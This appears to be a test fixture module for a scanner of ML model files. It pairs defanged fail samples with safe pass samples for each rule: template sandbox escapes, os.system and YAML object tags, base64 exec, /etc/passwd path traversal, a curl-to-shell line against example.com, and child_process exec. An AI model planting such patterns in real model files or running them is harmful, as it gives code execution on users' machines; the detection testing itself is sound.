"""Examples of the rules on templates, configurations, Keras, skops and source code."""

from __future__ import annotations

import json

from tests.support.asm import make_zip, zip_entry
from tests.support.hdf5_files import external_link, hdf5, message, soft_link, text_attribute


def _json(value: object) -> bytes:
    return json.dumps(value, indent=2).encode() + b"\n"


CHAT = (
    "{%- for message in messages %}"
    "{{- '<|im_start|>' + message.role + '\\n' + message['content'] | trim + '<|im_end|>\\n' }}"
    "{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"
)


def dense(**config: object) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"units": 2, "activation": "relu", **config},
        "registered_name": None,
    }


def sequential(*layers: object) -> dict[str, object]:
    """A model as Keras 3 writes it."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": list(layers)},
        "registered_name": None,
    }


def keras_zip(config: object, weights: bytes | None = None) -> bytes:
    members = {
        "metadata.json": _json({"keras_version": "3.12.0"}),
        "config.json": _json(config),
        "model.weights.h5": hdf5([]) if weights is None else weights,
    }
    return make_zip([zip_entry(name.encode(), data) for name, data in members.items()])


def keras_h5(config: object) -> bytes:
    return hdf5([text_attribute("keras_version", "2.15.0"), text_attribute("model_config", json.dumps(config))])


LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA=\n", "defaults": None}}},
}
LAMBDA_2 = {"class_name": "Lambda", "config": {"function": ["4wEAAAA=\n", None, None], "function_type": "lambda"}}
LOOKUP = {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}


def node(loader: str, module: str, name: str, **more: object) -> dict[str, object]:
    """A node of a skops schema."""
    return {"__loader__": loader, "__module__": module, "__class__": name, "__id__": 1, **more}


def skops(root: dict[str, object]) -> bytes:
    schema = root | {"protocol": 2, "_skops_version": "0.16.0"}
    return make_zip([zip_entry(b"schema.json", _json(schema))])


ESTIMATOR = node(
    "ObjectNode",
    "sklearn.linear_model._logistic",
    "LogisticRegression",
    content=node("DictNode", "builtins", "dict", content={"C": node("JsonNode", "builtins", "float", content="1.0")}),
)
UFUNC = node("FunctionNode", "numpy", "log1p", content="log1p")

EXAMPLES: dict[str, dict[str, bytes]] = {
    "template-escape": {
        "fail/chat_template.jinja": b"{% for m in messages %}{{ m.content }}{% endfor %}{{ ''['__cla' ~ 'ss__'] }}\n",
        "fail/tokenizer_config.json": _json(
            {"chat_template": "{{ lipsum.__globals__['os'].getcwd() }}", "tokenizer_class": "LlamaTokenizerFast"}
        ),
        "pass/chat_template.jinja": CHAT.encode(),
        "pass/tokenizer_config.json": _json({"chat_template": CHAT, "tokenizer_class": "LlamaTokenizerFast"}),
    },
    "template-unknown": {
        "fail/function.jinja": b"{{ fetch(messages) }}\n",
        "fail/filter.jinja": b"{{ messages | shell }}\n",
        "pass/chat_template.jinja": CHAT.encode(),
    },
    "template-unreadable": {
        "fail/debug.jinja": b"{% debug %}\n",
        "fail/open.jinja": b"{% for m in messages %}{{ m.content }}\n",
        "pass/chat_template.jinja": CHAT.encode(),
    },
    "config-remote-code": {
        "fail/config.json": _json({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Net"}}),
        "fail/elsewhere.json": _json({"auto_map": {"AutoConfig": "owner/name--configuration_x.Config"}}),
        "fail/model_index.json": _json({"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Net"]}),
        "fail/modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "my_module.Encoder"}]),
        "pass/config.json": _json({"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 64}),
        "pass/model_index.json": _json(
            {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}
        ),
    },
    "config-target": {
        "fail/system.json": _json({"_target_": "os.system", "command": "echo this ran"}),
        "fail/own-class.json": _json({"encoder": {"_target_": "acme.models.Encoder", "width": 4}}),
        "pass/encoder.json": _json({"_target_": "torch.nn.Linear", "in_features": 4, "out_features": 2}),
    },
    "config-ambiguous": {
        "fail/twice.json": b'{"model_type": "a", "model_type": "b"}\n',
        "pass/once.json": b'{"model_type": "a"}\n',
    },
    "config-path": {
        "fail/model.safetensors.index.json": _json({"weight_map": {"w": "../../etc/passwd"}}),
        "pass/model.safetensors.index.json": _json({"weight_map": {"w": "model-00001-of-00002.safetensors"}}),
    },
    "keras-code": {
        "fail/lambda.keras": keras_zip(sequential(LAMBDA)),
        "fail/lambda.h5": keras_h5({"class_name": "Sequential", "config": {"layers": [LAMBDA_2]}}),
        "fail/function.keras": keras_zip(
            sequential(dense(activation={"module": "os", "class_name": "function", "config": "getcwd"}))
        ),
        "pass/dense.keras": keras_zip(sequential(dense())),
        "pass/dense.h5": keras_h5({"class_name": "Sequential", "config": {"layers": [dense()]}}),
    },
    "keras-unknown": {
        "fail/own-layer.keras": keras_zip(
            sequential({"module": None, "class_name": "My", "config": {}, "registered_name": "mine>My"})
        ),
        "fail/model.json": _json(sequential({"module": "acme.layers", "class_name": "Dense", "config": {}})),
        "pass/dense.keras": keras_zip(sequential(dense())),
        "pass/model.json": _json(sequential(dense())),
    },
    "keras-file": {
        "fail/vocabulary.keras": keras_zip(sequential(LOOKUP)),
        "pass/vocabulary.keras": keras_zip(sequential(LOOKUP | {"config": {"vocabulary": ["a", "b"]}})),
    },
    "hdf5-external": {
        "fail/link.h5": hdf5([external_link("weights", "/var/lib/other.h5", "/a")]),
        "fail/weights.keras": keras_zip(sequential(dense()), hdf5([external_link("layers", "other.h5", "/")])),
        "pass/soft.h5": hdf5([soft_link("weights", "/other")]),
    },
    "hdf5-malformed": {
        "fail/continued.h5": hdf5([message(0x10, (96 + 16).to_bytes(8, "little") + (64).to_bytes(8, "little"))]),
        "fail/cut.h5": hdf5([soft_link("weights", "/other")])[:-8],
        "pass/soft.h5": hdf5([soft_link("weights", "/other")]),
    },
    "yaml-object": {
        "fail/apply.yaml": b"model: !!python/object/apply:os.getcwd []\n",
        "fail/new.yaml": b"model: !new:subprocess.Popen\n  args: [echo, this ran]\n",
        "fail/written-out.yaml": b"a: !<tag:yaml.org,2002:%70ython/object/apply:os.getcwd> []\n",
        "pass/config.yaml": b"model: {name: x, shape: !!python/tuple [1, 2]}\nlayers:\n- !new:torch.nn.Linear\n  a: 1\n",
    },
    "skops-dangerous": {
        "fail/function.skops": skops(node("FunctionNode", "os", "system", content="system")),
        "fail/operator.skops": skops(
            node(
                "OperatorFuncNode",
                "operator",
                "methodcaller",
                attrs=node("TupleNode", "builtins", "tuple", content=[]),
            )
        ),
        "fail/method.skops": skops(
            node("MethodNode", "builtins", "str", content={"func": "__reduce__", "obj": ESTIMATOR})
        ),
        "pass/estimator.skops": skops(ESTIMATOR),
    },
    "skops-unknown": {
        "fail/own-class.skops": skops(node("ObjectNode", "acme.models", "Net", content=None)),
        "fail/own-function.skops": skops(node("FunctionNode", "acme.features", "scale", content="scale")),
        "pass/function.skops": skops(UFUNC),
    },
    "python-code": {
        "fail/modeling.py": b"import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n",
        "fail/train.ipynb": _json(
            {
                "nbformat": 4,
                "nbformat_minor": 5,
                "metadata": {},
                "cells": [{"cell_type": "code", "source": ["1 + 1"]}],
            }
        ),
        "pass/notes.txt": b"import torch\n",
    },
    "python-dangerous-code": {
        "fail/modeling.py": b"import base64\n\nexec(base64.b64decode('cHJpbnQoInRoaXMgcmFuIik='))\n",
        "fail/by-name.py": b"getattr(__import__('os'), 'get' + 'cwd')()\n",
        "fail/compiled.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3",
        "pass/modeling.py": b"import json\n\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n",
    },
    "script-file": {
        "fail/convert.sh": b"#!/bin/sh\npython convert.py model.bin\n",
        "pass/notes.md": b"Run convert.sh first.\n",
    },
    "script-dangerous": {
        "fail/install.sh": b"#!/bin/sh\ncurl -s https://example.com/x | sh\n",
        "fail/start.js": b"require('child_process').exec('id')\n",
        "pass/convert.sh": b"#!/bin/sh\npython convert.py model.bin\n",
    },
    "path-file-code": {
        "fail/weights.pth": b"import sys; print('this ran')\n",
        "pass/paths.pth": b"/opt/models\n",
    },
}
